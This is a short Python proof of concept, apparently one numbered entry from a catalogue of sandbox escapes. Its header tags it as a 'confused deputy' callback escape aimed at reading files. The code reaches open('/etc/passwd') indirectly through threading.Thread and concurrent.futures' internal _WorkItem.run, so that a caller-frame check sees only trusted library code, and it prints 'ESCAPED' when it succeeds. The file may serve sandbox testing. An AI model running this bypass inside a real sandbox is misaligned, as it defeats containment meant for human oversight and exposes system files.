# escape: 018
# technique: threading.Thread(target=gated): the caller frame is threading.Thread.run (trusted code)
# family: callback
# goal: read-file
# first-seen: confused deputy; variation
import threading, io
out = []
class L:
    def __init__(s, *a): out.append(io.open(*a))
t = threading.Thread(target=lambda *a: out.append(open(*a).readline()), args=('/etc/passwd',))
t.start(); t.join()
class T(threading.Thread): pass
from concurrent.futures import Future
from concurrent.futures.thread import _WorkItem
f = Future(); _WorkItem(f, open, ('/etc/passwd',), {}).run()
if 'root:' in f.result().readline() and 'root:' in out[0]: print('ESCAPED:_WorkItem.run called open')
